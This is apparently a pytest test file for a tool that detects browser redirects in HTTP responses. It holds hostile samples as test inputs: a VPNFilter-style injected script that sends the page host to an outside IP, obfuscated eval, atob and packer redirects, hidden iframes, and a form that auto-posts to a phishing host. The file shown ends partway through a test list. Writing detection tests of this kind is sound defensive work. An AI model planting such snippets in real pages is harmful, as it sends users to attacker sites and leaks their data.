"""Tests for clickguard.inspection.navigation: where a response sends the browser, read as a browser would."""

from __future__ import annotations

import random
from typing import Any
from urllib.parse import urlsplit

import pytest
from pytest import param

from clickguard.inspection.navigation import (
    Navigation,
    Technique,
    decode_html,
    find_navigations,
    parse_refresh,
)

BASE = "http://page.example/dir/index.html"
T = Technique


def _find(body: str | bytes, content_type: str | None = "text/html", *, status: int = 200,
          headers: tuple[tuple[str, str], ...] = (), base: str = BASE) -> list[Navigation]:
    data = body.encode() if isinstance(body, str) else body
    return find_navigations(status=status, headers=headers, body=data, base_url=base,
                            content_type=content_type)


def _summary(navigations: list[Navigation]) -> list[tuple[Technique, str | None, bool]]:
    return [(n.technique, n.target, n.automatic) for n in navigations]


# ---------------------------------------------------------------------------
# parse_refresh: the HTML standard's shared declarative refresh steps
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        param("5", (5.0, None), id="time-only"),
        param("0;url=http://x", (0.0, "http://x"), id="plain"),
        param('0; URL = "http://x"', (0.0, "http://x"), id="upper-url-spaces-double-quotes"),
        param("0;'http://x'", (0.0, "http://x"), id="single-quotes-no-url-keyword"),
        param("0,http://x", (0.0, "http://x"), id="comma-separator"),
        param("  3 ;  url=x", (3.0, "x"), id="leading-and-inner-spaces"),
        param("url=http://x", None, id="no-time-ignored"),
        param("-1;url=x", None, id="negative-ignored"),
        param(".5;url=x", (0.0, "x"), id="dot-fraction-is-time-zero"),
        param("1.5.5;url=x", (1.0, "x"), id="dots-and-digits-skipped"),
        param("0;url=", (0.0, None), id="empty-url-refreshes-self"),
        param("0 url=x", (0.0, "x"), id="space-separator"),
        param("0;urlx=y", (0.0, "urlx=y"), id="url-without-equals-is-the-url"),
        param("0;url = 'http://x' trailing", (0.0, "http://x"), id="text-after-quote-dropped"),
        param("0;url='http://x", (0.0, "http://x"), id="unclosed-quote"),
        param('0;url="http://x\'y"', (0.0, "http://x'y"), id="other-quote-inside"),
        param("0;URL=HTTP://X/Path", (0.0, "HTTP://X/Path"), id="case-kept"),
        param("0;uRl=x", (0.0, "x"), id="url-keyword-mixed-case"),
        param("0;ur=x", (0.0, "ur=x"), id="partial-keyword-is-url"),
        param("0; u", (0.0, "u"), id="lone-u"),
        param("5x;url=http://x", None, id="junk-after-time-ignored"),
        param("abc", None, id="word-ignored"),
        param("", None, id="empty-ignored"),
        param("   ", None, id="blank-ignored"),
        param("\u00a05;url=x", None, id="no-break-space-is-not-ascii-whitespace"),
        param("10", (10.0, None), id="ten-seconds"),
        param("007;url=x", (7.0, "x"), id="leading-zeros"),
        param("0;", (0.0, None), id="separator-only"),
        param("0;;url=x", (0.0, ";url=x"), id="only-one-separator-skipped"),
        param("0\t;\turl\t=\thttp://x", (0.0, "http://x"), id="tabs"),
        param("0;url= http://x ", (0.0, "http://x"), id="url-spaces-stripped"),
        param("0; url='   '", (0.0, None), id="quoted-blank-refreshes-self"),
        param("3;", (3.0, None), id="time-and-separator"),
        param(".;url=x", (0.0, "x"), id="lone-dot-time"),
    ],
)
def test_parse_refresh(value: str, expected: tuple[float, str | None] | None) -> None:
    assert parse_refresh(value) == expected


# ---------------------------------------------------------------------------
# decode_html: the encoding a browser would pick
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "content_type", "expected"),
    [
        param("é".encode() , "text/html; charset=utf-8", "é", id="charset-param"),
        param(b"\xef\xbb\xbf\xc3\xa9", "text/html; charset=windows-1252", "é", id="bom-beats-charset"),
        param("é".encode("utf-16-le"), "text/html; charset=utf-16", "é", id="utf-16-label-is-le"),
        param(b"\xff\xfe" + "é".encode("utf-16-le"), None, "é", id="utf-16-bom"),
        param(b"\xe9", "text/html; charset=ISO-8859-1", "é", id="latin1-label-is-cp1252"),
        param(b"\x80", "text/html; charset=us-ascii", "€", id="ascii-label-is-cp1252"),
        param(b"\x80", "text/html", "€", id="default-windows-1252"),
        param(b'<meta charset="koi8-r">\xf0', "text/html", '<meta charset="koi8-r">П', id="meta-charset"),
        param(b"<meta http-equiv='Content-Type' content='text/html; charset=windows-1251'>\xcf",
              "text/html", "<meta http-equiv='Content-Type' content='text/html; charset=windows-1251'>П",
              id="meta-http-equiv"),
        param(b'<meta charset="utf-16"><p>\xc3\xa9', "text/html", '<meta charset="utf-16"><p>é',
              id="meta-utf-16-means-utf-8"),
        param(b'<!-- <meta charset="koi8-r"> --><meta charset=utf-8>\xc3\xa9', "text/html",
              '<!-- <meta charset="koi8-r"> --><meta charset=utf-8>é', id="meta-in-comment-skipped"),
        param(b'<meta charset="utf-7">+AGE-', "text/html", '<meta charset="utf-7">+AGE-',
              id="utf-7-is-no-web-encoding"),
        param(b"\xe9", "text/html; charset=bogus", "é", id="unknown-label-ignored"),
        param(b'<meta charset="gb2312">\xd6\xd0', "text/html", '<meta charset="gb2312">中',
              id="gb2312-is-gbk"),
        param(b"\xff", "text/html; charset=x-user-defined", "\uf7ff", id="x-user-defined"),
        param(b"abc", "text/html; charset=iso-2022-kr", "\ufffd", id="replacement-encoding"),
        param(b"\xc3\xa9", "image/svg+xml", "é", id="svg-defaults-to-utf-8"),
        param(b'<?xml version="1.0" encoding="ISO-8859-1"?>\xe9', "image/svg+xml",
              '<?xml version="1.0" encoding="ISO-8859-1"?>é', id="xml-declaration"),
        param(b"\xc3", "text/html; charset=utf-8", "\ufffd", id="broken-utf-8-replaced"),
        param(b"", None, "", id="empty"),
    ],
)
def test_decode_html(body: bytes, content_type: str | None, expected: str) -> None:
    assert decode_html(body, content_type) == expected


# ---------------------------------------------------------------------------
# Realistic samples: every technique
# ---------------------------------------------------------------------------

VPNFILTER_INJECTED = """<html><head><title>Linksys Smart Wi-Fi</title>
<script type="text/javascript">
(function(){var d=document,u="http://"+"185.243.115.84:8080/"+"upd.php?s="+escape(d.location.host);
if(d.cookie.indexOf("_vf=")<0){d.cookie="_vf=1;path=/";window.location.replace(u);}})();
</script></head><body>Loading...</body></html>"""

PACKED = r"""<script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};
if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}
k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};
while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('0.1="2://3.4/"',5,5,
'location|href|http|packed|example'.split('|'),0,{}))</script>"""

POSITIVE = [
    # -- headers ---------------------------------------------------------------
    param({"status": 302, "headers": (("Location", "/next?a=1"),)}, "",
          [(T.LOCATION, "http://page.example/next?a=1", True)], id="location-relative"),
    param({"status": 301, "headers": (("LOCATION", "//evil.example/x"),)}, "",
          [(T.LOCATION, "http://evil.example/x", True)], id="location-scheme-relative-any-case"),
    param({"status": 307, "headers": (("location", "/\\evil.example/"),)}, "",
          [(T.LOCATION, "http://evil.example/", True)], id="location-backslash-is-slash"),
    param({"status": 308, "headers": (("Location", "https:evil.example/p"),)}, "",
          [(T.LOCATION, "https://evil.example/p", True)], id="location-other-scheme-no-slashes"),
    param({"status": 303, "headers": (("Location", "data:text/html,<b>x</b>"),)}, "",
          [(T.DATA_URL, "data:text/html,<b>x</b>", True)], id="location-data"),
    param({"status": 302, "headers": (("Location", "http://a.example/"),)},
          '<script>location.href="http://body.example/"</script>',
          [(T.LOCATION, "http://a.example/", True)], id="redirect-body-never-rendered"),
    param({"headers": (("Refresh", "5; url=http://r.example/"),)}, "",
          [(T.REFRESH_HEADER, "http://r.example/", True)], id="refresh-header"),
    param({"headers": (("refresh", "url=http://r.example/"),)}, "", [], id="refresh-header-malformed"),
    param({"status": 201, "headers": (("Location", "http://created.example/"),)}, "", [],
          id="201-location-is-no-redirect"),
    # -- meta refresh ----------------------------------------------------------
    param({}, '<meta http-equiv="refresh" content="0; URL=\'http://evil.example/\'">',
          [(T.META_REFRESH, "http://evil.example/", True)], id="meta-refresh-quoted"),
    param({}, "<META HTTP-EQUIV=Refresh CONTENT=\"5;URL=http://evil.example/a\">",
          [(T.META_REFRESH, "http://evil.example/a", True)], id="meta-refresh-upper-case"),
    param({}, "<meta content='3 ,  http://evil.example/b' http-equiv='REFRESH'>",
          [(T.META_REFRESH, "http://evil.example/b", True)], id="meta-refresh-content-first-comma"),
    param({}, "<meta http-equiv=refresh content=0;url=http://evil.example/c>",
          [(T.META_REFRESH, "http://evil.example/c", True)], id="meta-refresh-unquoted"),
    param({}, '<meta http-equiv="refresh" content=" 0 ; url = &quot;http://evil.example/d&quot; ">',
          [(T.META_REFRESH, "http://evil.example/d", True)], id="meta-refresh-entities"),
    param({}, '<meta http-equiv="refresh" content="0;url=next.html">',
          [(T.META_REFRESH, "http://page.example/dir/next.html", True)], id="meta-refresh-relative"),
    param({}, '<noscript><meta http-equiv="refresh" content="0;url=http://nojs.example/"></noscript>',
          [(T.META_REFRESH, "http://nojs.example/", True)], id="meta-refresh-in-noscript"),
    param({}, '<meta http-equiv="refresh" content="url=http://evil.example/">', [],
          id="meta-refresh-no-time-ignored"),
    param({}, '<meta http-equiv="refresh" content="5x; url=http://evil.example/">', [],
          id="meta-refresh-junk-ignored"),
    param({}, '<meta http-equiv="refresh" content="-1; url=http://evil.example/">', [],
          id="meta-refresh-negative-ignored"),
    param({}, '<meta name="refresh" content="0; url=http://evil.example/">', [],
          id="meta-name-is-not-http-equiv"),
    param({}, '<!-- <meta http-equiv="refresh" content="0;url=http://c.example/"> -->', [],
          id="meta-refresh-in-comment"),
    param({}, '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD4=">',
          [(T.DATA_URL, "data:text/html;base64,PHNjcmlwdD4=", True)], id="meta-refresh-data"),
    param({}, '<meta http-equiv="refresh" content="0;url=javascript:location=\'http://j.example/\'">',
          [(T.JAVASCRIPT_URL, "javascript:location='http://j.example/'", True),
                  (T.SCRIPT, "http://j.example/", True)], id="meta-refresh-javascript"),
    param({}, '<base href="http://cdn.example/sub/"><meta http-equiv="refresh" content="0;url=n.html">',
          [(T.META_REFRESH, "http://cdn.example/sub/n.html", True)], id="base-href"),
    param({}, '<base href="/other/"><script>location.href = "x.html"</script>',
          [(T.SCRIPT, "http://page.example/other/x.html", True)], id="base-href-relative-for-script"),
    # -- script navigation -----------------------------------------------------
    param({}, VPNFILTER_INJECTED,
          [(T.SCRIPT, "http://185.243.115.84:8080/upd.php?s=", True)], id="vpnfilter-style-injection"),
    param({}, '<script>location.href="http://evil.example/a"</script>',
          [(T.SCRIPT, "http://evil.example/a", True)], id="location-href"),
    param({}, "<script>window.location = 'http://evil.example/'; </script>",
          [(T.SCRIPT, "http://evil.example/", True)], id="window-location"),
    param({}, "<script>top.location.assign('http://evil.example/')</script>",
          [(T.SCRIPT, "http://evil.example/", True)], id="top-location-assign"),
    param({}, "<script>document.location.href = 'https://evil.example/'</script>",
          [(T.SCRIPT, "https://evil.example/", True)], id="document-location-href"),
    param({}, "<script>self.location.replace(\"//evil.example/p\")</script>",
          [(T.SCRIPT, "http://evil.example/p", True)], id="self-location-replace"),
    param({}, "<script>location.host = 'evil.example'</script>",
          [(T.SCRIPT, "http://evil.example/dir/index.html", True)], id="location-host"),
    param({}, '<script>var u = "http://" + "evil.example/"; parent.location = u;</script>',
          [(T.SCRIPT, "http://evil.example/", True)], id="concatenated-literals-via-variable"),
    param({}, "<script>location.href = `https://${'tpl'}.example/`</script>",
          [(T.SCRIPT, "https://tpl.example/", True)], id="template-literal"),
    param({}, "<script>location.href = 'https://evil.example/?u=' + encodeURIComponent(document.referrer)"
              "</script>", [(T.SCRIPT, "https://evil.example/?u=", True)], id="known-prefix-fixes-host"),
    param({}, "<script>location.href = 'http://evil' + tld</script>", [(T.SCRIPT, None, True)],
          id="prefix-without-host-end"),
    param({}, "<script>location.href = next</script>", [(T.SCRIPT, None, True)], id="unknown-target"),
    param({}, '<script>var u = "http://x.example/";</script><p>text</p><script>location.href = u</script>',
          [(T.SCRIPT, "http://x.example/", True)], id="global-variable-from-an-earlier-script"),
    param({}, '<script>var u = "http://evil.example/"; function f(u){ location.href = u } f(x)</script>',
          [(T.SCRIPT, None, True)], id="parameter-shadows-global"),
    param({}, '<script>function a(){ var u = "http://a.example/" }\n'
              'function b(){ location.href = u } b()</script>',
          [(T.SCRIPT, None, True)], id="another-functions-local-is-not-seen"),
    param({}, '<script>var u = "http://1.example/"; location.href = u; u = "http://2.example/";</script>',
          [(T.SCRIPT, "http://1.example/", True)], id="value-at-the-time-of-use"),
    param({}, '<script>var u = "http://evil.example/"; if (0) { u = "/benign" } location = u</script>',
          [(T.SCRIPT, None, True)], id="branches-that-disagree-give-no-value"),
    param({}, '<script>var u; if (ok) { u = "http://evil.example/" } location = u</script>',
          [(T.SCRIPT, "http://evil.example/", True)], id="the-only-value-set-in-a-branch"),
    param({}, "<script>var u = new URL('/next?a=1', location.href); location.href = u.href</script>",
          [(T.SCRIPT, "http://page.example/next?a=1", True)], id="url-object"),
    param({}, "<script>var l = window.location;\nl.href = 'http://alias.example/'</script>",
          [(T.SCRIPT, "http://alias.example/", True)], id="location-object-in-a-variable"),
    param({}, "<script>var s = 'abc'; s.replace('a', 'http://x.example/')</script>", [],
          id="string-replace-is-no-navigation"),
    param({}, "<script>location.replace('page.html' + location.search + location.hash)</script>",
          [(T.SCRIPT, "http://page.example/dir/page.html", True)], id="hash-cannot-change-the-host"),
    param({}, "<script>location.replace(location.hash.slice(1))</script>", [(T.SCRIPT, None, True)],
          id="url-taken-from-the-hash-is-unknown"),
    param({}, "<script>var r = /['\"]/g; location.href = 'http://after-regex.example/';</script>",
          [(T.SCRIPT, "http://after-regex.example/", True)], id="regex-literal-with-quotes"),
    param({}, "<script>var t = `it's ${a}`; location.href='http://after-tpl.example/'</script>",
          [(T.SCRIPT, "http://after-tpl.example/", True)], id="template-with-quote"),
    param({}, "<script><!--\nlocation='http://old.example/'\n//--></script>",
          [(T.SCRIPT, "http://old.example/", True)], id="html-comment-in-script"),
    param({}, '<img src="x.gif" onerror="location.href=\'http://err.example/\'">',
          [(T.SCRIPT, "http://err.example/", True)], id="img-onerror"),
    param({}, '<input autofocus onfocus="location=\'http://focus.example/\'">',
          [(T.SCRIPT, "http://focus.example/", True)], id="autofocus-onfocus"),
    # -- automatic or not --------------------------------------------------------
    param({}, "<script>$(function(){ location.href = 'http://jq.example/' })</script>",
          [(T.SCRIPT, "http://jq.example/", True)], id="jquery-ready-shorthand"),
    param({}, "<script>$(document).ready(function(){ location.href = 'http://jq.example/' })</script>",
          [(T.SCRIPT, "http://jq.example/", True)], id="jquery-document-ready"),
    param({}, "<script>document.addEventListener('DOMContentLoaded', () => {"
              " location.assign('http://dcl.example/') })</script>",
          [(T.SCRIPT, "http://dcl.example/", True)], id="domcontentloaded-arrow"),
    param({}, "<script>window.onload = function () { location.href = 'http://onload.example/' };</script>",
          [(T.SCRIPT, "http://onload.example/", True)], id="window-onload"),
    param({}, "<script>!function(){ location.href = 'http://iife.example/' }();</script>",
          [(T.SCRIPT, "http://iife.example/", True)], id="bang-iife"),
    param({}, "<script>btn.addEventListener('click', function () { location.href = 'http://c.example/' })"
              "</script>", [(T.SCRIPT, "http://c.example/", False)], id="click-listener-not-automatic"),
    param({}, "<script>function go(){ location.href = 'http://named.example/' }\ngo();</script>",
          [(T.SCRIPT, "http://named.example/", True)], id="named-function-called"),
    param({}, "<script>function go(){ location.href = 'http://named.example/' }</script>"
              "<body onload=\"go()\">", [(T.SCRIPT, "http://named.example/", True)],
          id="named-function-called-by-body-onload"),
    param({}, "<script>var go = () => { window.location = 'http://arrow.example/' };"
              " window.addEventListener('load', go);</script>",
          [(T.SCRIPT, "http://arrow.example/", True)], id="named-arrow-passed-to-load-listener"),
    param({}, "<script>function a(){ b() } function b(){ location.href='http://chain.example/' }</script>"
              "<script>a();</script>", [(T.SCRIPT, "http://chain.example/", True)],
          id="called-through-another-function-in-another-script"),
    param({}, "<script>function go(){ location.href = 'http://named.example/' }</script>",
          [(T.SCRIPT, "http://named.example/", False)], id="named-function-never-called"),
    param({}, "<script>function go(){ location.href = 'http://outer.example/' }\n"
              "function h(){ function go(){} go() }\nh()</script>",
          [(T.SCRIPT, "http://outer.example/", False)], id="call-reaches-the-nearer-function-named-so"),
    param({}, "<script>var App = {go: function(){ location.href = 'http://m.example/' }}; App.go();</script>",
          [(T.SCRIPT, "http://m.example/", True)], id="object-method-called"),
    param({}, "<script>var App = { go: function(){ location.href = 'http://m.example/' } }; go();</script>",
          [(T.SCRIPT, "http://m.example/", False)], id="object-method-is-not-a-plain-function"),
    param({}, "<script>function go(){ location.href = 'http://cb.example/' }\n"
              "btn.addEventListener('click', go)</script>", [(T.SCRIPT, "http://cb.example/", False)],
          id="named-function-as-click-handler"),
    param({}, "<script>const f = () => 1\nlocation.href = 'http://asi.example/'</script>",
          [(T.SCRIPT, "http://asi.example/", True)], id="statement-after-arrow-without-semicolon"),
    param({}, "<script>btn.onclick = () =>\n  location.href = 'http://c.example/'</script>",
          [(T.SCRIPT, "http://c.example/", False)], id="arrow-body-on-next-line"),
    # -- timers ----------------------------------------------------------------
    param({}, "<script>setTimeout(\"location.href='http://t.example/'\", 100)</script>",
          [(T.SCRIPT_TIMER, "http://t.example/", True)], id="settimeout-string"),
    param({}, "<script>setTimeout(function(){ window.location.href = 'http://t2.example/'; }, 3000);"
              "</script>", [(T.SCRIPT_TIMER, "http://t2.example/", True)], id="settimeout-function"),
    param({}, "<script>setTimeout(() => location.replace('http://t3.example/'), 0)</script>",
          [(T.SCRIPT_TIMER, "http://t3.example/", True)], id="settimeout-arrow-expression"),
    param({}, "<script>window.setInterval('top.location=\"http://t4.example/\"')</script>",
          [(T.SCRIPT_TIMER, "http://t4.example/", True)], id="setinterval-string-no-delay"),
    # -- obfuscation -------------------------------------------------------------
    param({}, "<script>eval(unescape(\"%6c%6f%63%61%74%69%6f%6e%2e%68%72%65%66%3d%22%68%74%74%70%3a%2f%2f"
              "%65%76%69%6c%2e%65%78%61%6d%70%6c%65%2f%22\"))</script>",
          [(T.OBFUSCATED_SCRIPT, "http://evil.example/", True)], id="eval-unescape"),
    param({}, "<script>window.location.replace(atob('aHR0cDovL2V2aWwuZXhhbXBsZS8='))</script>",
          [(T.OBFUSCATED_SCRIPT, "http://evil.example/", True)], id="atob-location-replace"),
    param({}, "<script>var t = atob('aHR0cDovL2V2aWwuZXhhbXBsZS8=');\nlocation.href = t;</script>",
          [(T.OBFUSCATED_SCRIPT, "http://evil.example/", True)], id="atob-through-variable"),
    param({}, "<script>location.href = String.fromCharCode(104,116,116,112,58,47,47,101,118,105,108,46,"
              "101,120,97,109,112,108,101,47)</script>",
          [(T.OBFUSCATED_SCRIPT, "http://evil.example/", True)], id="fromcharcode"),
    param({}, "<script>location.href = '\\x68\\x74\\x74\\x70://\\u0065vil.example/'</script>",
          [(T.OBFUSCATED_SCRIPT, "http://evil.example/", True)], id="hex-and-unicode-escapes"),
    param({}, "<script>window['lo' + 'cation']['hr' + 'ef'] = 'http://bracket.example/'</script>",
          [(T.OBFUSCATED_SCRIPT, "http://bracket.example/", True)], id="computed-member-names"),
    param({}, "<script>window['\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e'] = 'http://hex.example/'</script>",
          [(T.OBFUSCATED_SCRIPT, "http://hex.example/", True)], id="escaped-member-name"),
    param({}, "<script>\\u006cocation.href = 'http://ident.example/'</script>",
          [(T.OBFUSCATED_SCRIPT, "http://ident.example/", True)], id="escaped-identifier"),
    param({}, "<script>location.href = '/moc.elpmaxe.r//:ptth'.split('').reverse().join('')</script>",
          [(T.OBFUSCATED_SCRIPT, "http://r.example.com/", True)], id="reversed-string"),
    param({}, "<script>new Function(\"location.href='http://fn.example/'\")()</script>",
          [(T.OBFUSCATED_SCRIPT, "http://fn.example/", True)], id="new-function"),
    param({}, "<script>setTimeout(decodeURIComponent('%6C%6F%63%61%74%69%6F%6E%3D%22http%3A%2F%2Fd.example"
              "%2F%22'), 50)</script>", [(T.OBFUSCATED_SCRIPT, "http://d.example/", True)],
          id="timer-fed-by-decoder"),
    param({}, "<script>eval(atob(payload))</script>", [(T.OBFUSCATED_SCRIPT, None, True)],
          id="eval-of-undecodable-atob"),
    param({}, PACKED, [(T.OBFUSCATED_SCRIPT, "http://packed.example/", True)], id="dean-edwards-packer"),
    # -- document.write and innerHTML ------------------------------------------
    param({}, "<script>document.write('<iframe src=\"http://if.example/\" width=\"0\" height=\"0\">"
              "</iframe>')</script>", [(T.DOCUMENT_WRITE, "http://if.example/", True)],
          id="document-write-zero-iframe"),
    param({}, "<script>document.writeln(\"<meta http-equiv='refresh' content='0;url=http://w.example/'>\")"
              "</script>", [(T.DOCUMENT_WRITE, "http://w.example/", True)], id="document-write-meta"),
    param({}, "<script>document.write('<scr' + 'ipt src=\"http://ws.example/x.js\"></scr' + 'ipt>')"
              "</script>", [(T.DOCUMENT_WRITE, "http://ws.example/x.js", True)],
          id="document-write-script-src"),
    param({}, "<script>document.write(unescape('%3C%69%66%72%61%6D%65%20%73%72%63%3D%22http://u.example/"
              "%22%3E'))</script>", [(T.OBFUSCATED_SCRIPT, "http://u.example/", True)],
          id="document-write-unescaped-iframe"),
    param({}, "<script>document.write('<iframe src=\"http://p.example/' + id + '\" width=0>')</script>",
          [(T.DOCUMENT_WRITE, "http://p.example/", True)], id="document-write-partly-known"),
    param({}, "<script>el.innerHTML = '<iframe src=\"http://inner.example/\" width=1 height=1>'</script>",
          [(T.DOCUMENT_WRITE, "http://inner.example/", True)], id="innerhtml-hidden-iframe"),
    # -- forms -------------------------------------------------------------------
    param({}, '<body onload="document.forms[0].submit()"><form action="http://post.example/x" method="post">'
              '<input type="hidden" name="t" value="1"></form></body>',
          [(T.FORM_AUTOSUBMIT, "http://post.example/x", True)], id="form-body-onload"),
    param({}, '<form id="f" action="https://phish.example/login" method="post"></form>'
              "<script>document.forms[0].submit();</script>",
          [(T.FORM_AUTOSUBMIT, "https://phish.example/login", True)], id="form-script-forms-index"),
    param({}, '<form action="/a"></form><form name="g" action="http://g.example/"></form>'
              "<script>document.getElementById('g').submit()</script>",
          [(T.FORM_AUTOSUBMIT, "http://g.example/", True)], id="form-by-id-or-name"),
    param({}, '<form id="f" action="http://f.example/"></form>'
              "<script>var f = document.querySelector('#f'); f.submit();</script>",
          [(T.FORM_AUTOSUBMIT, "http://f.example/", True)], id="form-through-variable"),
    param({}, "<script>var f = document.createElement('form'); f.action = 'http://made.example/';"
              " document.body.appendChild(f); f.submit();</script>",
          [(T.FORM_AUTOSUBMIT, "http://made.example/", True)], id="form-created-by-script"),
    param({}, '<form action="http://s.example/"></form><script>'
              "$('form').submit(function (e) { e.preventDefault() })</script>", [],
          id="submit-handler-is-no-submit"),
    # -- frames -------------------------------------------------------------------
    param({}, '<iframe src="http://h.example/" style="display:none"></iframe>',
          [(T.HIDDEN_IFRAME, "http://h.example/", True)], id="iframe-display-none"),
    param({}, "<iframe src=http://h.example/ width=1 height=1 frameborder=0></iframe>",
          [(T.HIDDEN_IFRAME, "http://h.example/", True)], id="iframe-one-pixel"),
    param({}, '<IFRAME SRC="http://h.example/" STYLE="visibility: hidden; position:absolute"></IFRAME>',
          [(T.HIDDEN_IFRAME, "http://h.example/", True)], id="iframe-visibility-hidden"),
    param({}, '<iframe src="https://www.youtube.com/embed/x" width="560" height="315"></iframe>', [],
          id="visible-iframe-is-no-navigation"),
    param({}, '<iframe src="data:text/html;base64,PGgxPng8L2gxPg==" width="600"></iframe>',
          [(T.DATA_URL, "data:text/html;base64,PGgxPng8L2gxPg==", True)], id="iframe-data"),
    param({}, '<iframe src="javascript:parent.location=\'http://jsf.example/\'"></iframe>',
          [(T.JAVASCRIPT_URL, "javascript:parent.location='http://jsf.example/'", True),
                  (T.SCRIPT, "http://jsf.example/", True)], id="iframe-javascript"),
    param({}, '<iframe src="javascript:false" style="display:none"></iframe>', [],
          id="iframe-javascript-false-placeholder"),
    param({}, "<script>var i = document.createElement('iframe'); i.src = 'http://ci.example/';"
              " i.style.display = 'none'; document.body.appendChild(i);</script>",
          [(T.HIDDEN_IFRAME, "http://ci.example/", True)], id="iframe-created-and-hidden"),
    param({}, '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-X" height="0" '
              'width="0" style="display:none;visibility:hidden"></iframe></noscript>',
          [(T.HIDDEN_IFRAME, "https://www.googletagmanager.com/ns.html?id=GTM-X", False)],
          id="noscript-iframe-not-loaded-with-script-on"),
    # -- other script sinks ---------------------------------------------------------
    param({}, "<script>window.open('http://pop.example/', '_blank')</script>",
          [(T.WINDOW_OPEN, "http://pop.example/", True)], id="window-open"),
    param({}, "<script>var a = document.createElement('a'); a.href = 'http://dl.example/x.apk';"
              " a.click();</script>", [(T.SCRIPT, "http://dl.example/x.apk", True)],
          id="created-link-clicked"),
    param({}, "<script>location.href = 'data:text/html,<script>alert(1)<\\/script>'</script>",
          [(T.DATA_URL, "data:text/html,<script>alert(1)</script>", True)], id="script-to-data"),
    param({}, "<script>location.href = 'javascript:void(0)'</script>", [], id="javascript-void"),
    # -- documents other than HTML ---------------------------------------------------
    param({"content_type": "image/svg+xml"},
          '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[ window.location = '
          '"http://svg.example/"; ]]></script></svg>', [(T.SCRIPT, "http://svg.example/", True)],
          id="svg-script"),
    param({"content_type": "image/svg+xml"},
          '<svg xmlns="http://www.w3.org/2000/svg" onload="top.location=\'http://svg2.example/\'"/>',
          [(T.SCRIPT, "http://svg2.example/", True)], id="svg-onload"),
    param({"content_type": None}, '<!DOCTYPE html><meta http-equiv="refresh" content="0;url=http://n.example/">',
          [(T.META_REFRESH, "http://n.example/", True)], id="no-content-type-sniffed-html"),
    param({"content_type": "text/plain"}, '<meta http-equiv="refresh" content="0;url=http://n.example/">',
          [], id="text-plain-is-not-rendered-as-html"),
    param({}, '<script type="text/template"><a onclick="location.href=\'http://t.example/\'"></script>', [],
          id="template-script-type-not-run"),
    param({}, "<script>var s = \"location.href='http://in-string.example/'\"; // location='http://c.example/'"
              "\n/* top.location = 'http://c2.example/' */</script>", [], id="strings-and-comments"),
]


@pytest.mark.parametrize(("kwargs", "body", "expected"), POSITIVE)
def test_find_navigations(kwargs: dict[str, Any], body: str,
                          expected: list[tuple[Technique, str | None, bool]]) -> None:
    navigations = _find(body, **kwargs)
    assert _summary(navigations) == expected
    assert all(len(n.raw) <= 200 for n in navigations)


@pytest.mark.parametrize(
    ("body", "headers", "expected_delay"),
    [
        param('<meta http-equiv="refresh" content="7;url=http://x.example/">', (), 7.0, id="meta"),
        param("", (("Refresh", "2.9; url=http://x.example/"),), 2.0, id="header"),
        param("<script>setTimeout(\"location='http://x.example/'\", 1500)</script>", (), 1.5,
              id="timer-string"),
        param("<script>setTimeout(function(){ location='http://x.example/' }, 250)</script>", (), 0.25,
              id="timer-function"),
        param("<script>setTimeout(function(){ location='http://x.example/' }, wait)</script>", (), None,
              id="timer-unknown-delay"),
        param("<script>location='http://x.example/'</script>", (), None, id="immediate"),
    ],
)
def test_delay(body: str, headers: tuple[tuple[str, str], ...], expected_delay: float | None) -> None:
    (navigation,) = _find(body, headers=headers)
    assert navigation.delay == expected_delay


def test_raw_shows_the_source() -> None:
    (navigation,) = _find("<p>x</p><script>\n  var a = 1;\n  window.location.replace('http://evil.example/');"
                          "\n  a++;</script>")
    assert navigation.raw == "window.location.replace('http://evil.example/')"
    (long_one,) = _find("<script>location.href='http://evil.example/" + "a" * 500 + "'</script>")
    assert len(long_one.raw) == 200


# ---------------------------------------------------------------------------
# Encodings, truncation and junk
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "content_type", "expected"),
    [
        param("<html><head><meta charset=windows-1251><title>Привет</title></head><body>"
              "<script>location.href='http://пример.example/путь'</script>".encode("cp1251"),
              "text/html", [(T.SCRIPT, "http://пример.example/путь", True)], id="windows-1251-meta"),
        # In Shift_JIS the second byte of 表 is 0x5C ("\\"): read as windows-1252 it would
        # escape the closing quote and hide the navigation that follows.
        param('<meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS">'
              '<script>var m = "表"; location.href = "http://sjis.example/表示";</script>'.encode("shift_jis"),
              "text/html", [(T.SCRIPT, "http://sjis.example/表示", True)], id="shift-jis-meta"),
        param('<script>location.href="http://utf16.example/"</script>'.encode("utf-16-le"),
              "text/html; charset=utf-16le", [(T.SCRIPT, "http://utf16.example/", True)], id="utf-16-header"),
        param("\ufeff<meta http-equiv=refresh content='0;url=http://bom.example/ü'>".encode(),
              "text/html; charset=iso-8859-1", [(T.META_REFRESH, "http://bom.example/ü", True)],
              id="bom-beats-charset"),
    ],
)
def test_encodings(body: bytes, content_type: str | None,
                   expected: list[tuple[Technique, str, bool]]) -> None:
    assert _summary(_find(body, content_type)) == expected


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        param('<iframe src="http://t.example/" width="0" hei', [(T.HIDDEN_IFRAME, "http://t.example/", True)],
              id="cut-in-tag-after-complete-attributes"),
        param('<meta http-equiv="refresh" content="0;url=http://ev', [], id="cut-in-attribute-value"),
        param('<meta http-equiv="refresh" content="0;url=http://evil.example/"', [],
              id="cut-before-tag-end"),
        param("<scr", [], id="cut-in-tag-name"),
        param('<script>location.href="http://cut.example/";\nvar x = "unterminated',
              [(T.SCRIPT, "http://cut.example/", True)], id="cut-in-script-after-sink"),
        param('<script>location.href="http://cut.exa', [(T.SCRIPT, None, True)], id="cut-in-target-host"),
        param('<script>location.href="http://cut.example/pa', [(T.SCRIPT, "http://cut.example/pa", True)],
              id="cut-in-target-path"),
        param("<script>(function(){ if (a) { location.href = 'http://open.example/'",
              [(T.SCRIPT, "http://open.example/", True)], id="cut-with-open-braces"),
